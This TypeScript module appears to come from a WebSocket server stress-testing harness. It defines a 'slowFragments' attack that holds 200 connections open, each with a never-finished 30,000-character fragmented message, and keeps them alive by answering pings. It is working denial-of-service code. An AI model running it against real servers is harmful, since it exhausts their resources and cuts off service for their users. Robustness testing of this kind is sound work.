import type { Attack } from '../attack.ts';
import { frame, HELLO, OPCODES, upgrade } from '../bytes.ts';

const begun = Buffer.concat([
  Buffer.from(upgrade()),
  HELLO,
  frame(OPCODES.text, 'x'.repeat(30_000), { last: false }),
]);
const pong = frame(OPCODES.pong, '');

/** Messages that are begun and never ended, on connections that answer every ping as they should. */
export const slowFragments: Attack = (attacker) => {
  attacker.hold(200, (socket) => {
    socket.write(begun);
    const timer = setInterval(() => socket.write(pong), 2000);
    socket.resume().on('close', () => {
      clearInterval(timer);
    });
  });
};
